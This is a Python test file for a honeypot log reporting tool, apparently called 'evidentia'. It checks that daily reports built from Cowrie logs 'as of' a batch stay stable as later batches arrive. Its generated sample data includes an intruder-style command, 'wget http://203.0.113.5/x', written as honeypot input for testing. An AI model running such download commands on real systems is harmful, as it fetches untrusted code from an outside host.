"""A report as of a batch is the report of a store that never read any further."""

from __future__ import annotations

import tempfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from evidentia.errors import UsageError
from evidentia.event.timestamp import format_time
from evidentia.report.as_of import read_as_of
from evidentia.report.html import write_page
from evidentia.report.periodic import Period, Report, make_report
from evidentia.store.opening import Store
from evidentia.store.scope import Scope
from evidentia.store.values import EventFilter

from .kit import DAY, cowrie_line, cowrie_place

LINES = st.one_of(
    st.builds(
        cowrie_line,
        st.sampled_from(["session.connect", "login.failed", "login.success", "someday.new"]),
        st.integers(0, 24 * 60 - 1),
        session=st.sampled_from(["a", "b", "c"]),
        sensor=st.sampled_from(["north", "south"]),
        src_ip=st.sampled_from(["192.0.2.7", "2001:db8::1"]),
        username=st.sampled_from(["root", "git"]),
        password=st.sampled_from(["1", "2", None]),
    ),
    st.builds(
        cowrie_line,
        st.just("command.input"),
        st.integers(0, 24 * 60 - 1),
        input=st.sampled_from(["id", "ls", "wget http://203.0.113.5/x"]),
        session=st.sampled_from(["a", "b"]),
    ),
    st.builds(cowrie_line, st.just("client.size"), timestamp=st.just("yesterday")),
    st.just(b"not json\n"),
)
BATCHES = st.lists(st.lists(LINES, min_size=1, max_size=6), min_size=2, max_size=4)


def made(store: Store, batch: int | None, sensor: str | None = None) -> Report:
    """The report on the day, as of a batch."""
    with store.reader() as reader:
        moment = read_as_of(reader, None if batch is None else str(batch), 0)
        pack = cowrie_place(Path()).packs["cowrie"]
        return make_report(reader, pack, Period.DAILY, DAY, Scope(as_of=moment, sensor=sensor))


def without_moment(report: Report) -> tuple[object, ...]:
    """What a report says, whenever its batches were committed."""
    answers = [section.answer.rows for section in report.sections]
    return report.as_of.batch_id, report.counts, report.gaps, answers


@given(batches=BATCHES, sensor=st.sampled_from([None, "north", "south"]))
@settings(max_examples=12, deadline=None)
def test_a_report_as_of_a_batch_is_that_of_a_store_which_read_no_further(
    batches: list[list[bytes]], sensor: str | None
) -> None:
    """For every batch of any log, any sensor, dead letters and lines without a time among them."""
    with tempfile.TemporaryDirectory() as name:
        whole, parts = cowrie_place(Path(name)), cowrie_place(Path(name), "parts.db")
        whole.write("a.json", b"")
        early = []
        for lines in batches:
            whole.append("a.json", b"".join(lines))
            whole.ingest("a.json", pack="cowrie")
            parts.ingest("a.json", pack="cowrie")
            early.append(without_moment(made(parts.store, None, sensor)))

        late = [
            without_moment(made(whole.store, number, sensor))
            for number in range(1, len(batches) + 1)
        ]

    assert late == early


@pytest.fixture
def store(tmp_path: Path) -> Store:
    """Two batches; a line of the first is a dead letter."""
    place = cowrie_place(tmp_path)
    place.write("a.json", cowrie_line("session.connect") + b"not json\n")
    place.ingest("a.json", pack="cowrie")
    place.append("a.json", cowrie_line("session.connect", 1) * 2)
    place.ingest("a.json", pack="cowrie")
    return place.store


def test_a_page_as_of_a_batch_is_the_same_bytes_whatever_comes_later(
    store: Store, tmp_path: Path
) -> None:
    """VR-05: later lines, and what was decided on dead letters later, are not in it."""
    before = "".join(write_page([made(store, 2)]))
    place = cowrie_place(tmp_path)
    place.append("a.json", cowrie_line("login.failed", 2))
    place.ingest("a.json", pack="cowrie")
    with store.reader() as reader:
        letter = next(iter(reader.list_dead_letters(state=None, reason=None, limit=1)))
    with place.workspace.writer("a test") as writer:
        writer.resolve_dead_letter(letter.row.position, "seen")

    after = "".join(write_page([made(store, 2)]))

    assert after == before
    assert made(store, None).counts.open_dead_letters == 0
    assert made(store, 2).counts.open_dead_letters == 1


def test_a_batch_is_named_by_its_id_or_by_a_time(store: Store) -> None:
    """A time stands for the last batch that was committed by then."""
    with store.reader() as reader:
        first, second = list(reader.batches())
        by_id = read_as_of(reader, "1", 0)
        by_time = read_as_of(reader, format_time(second.committed_us - 1), 0)
        newest = read_as_of(reader, None, 0)

    assert by_id == by_time
    assert (by_id.batch_id, by_id.committed_us) == (1, first.committed_us)
    assert (newest.batch_id, newest.is_newest) == (2, True)


@pytest.mark.parametrize("text", ["0", "3", "99999999999999999", "2020-01-01", "soon"])
def test_a_moment_without_a_batch_is_wrong_usage(store: Store, text: str) -> None:
    """The message says which batches there are, or how a time is written."""
    with store.reader() as reader, pytest.raises(UsageError) as caught:
        read_as_of(reader, text, 0)

    assert "from 1 to 2" in str(caught.value.fix) or "2026-01-31" in str(caught.value.fix)


def test_an_empty_store_has_no_batch_yet(tmp_path: Path) -> None:
    """A question without --as-of is answered all the same; one with it says what to do."""
    store = Store(path=tmp_path / "s.db")
    store.create()

    with store.reader() as reader:
        assert read_as_of(reader, None, 0).batch_id == 0
        with pytest.raises(UsageError) as caught:
            read_as_of(reader, "1", 0)
    assert caught.value.fix == "ingest a log first"


def test_events_are_listed_as_of_a_batch(store: Store) -> None:
    """The listing sees what reports see."""
    with store.reader() as reader:
        moment = Scope(as_of=read_as_of(reader, "1", 0))
        found = [len(list(reader.list_events(EventFilter(), scope))) for scope in (moment, Scope())]

    assert found == [1, 3]
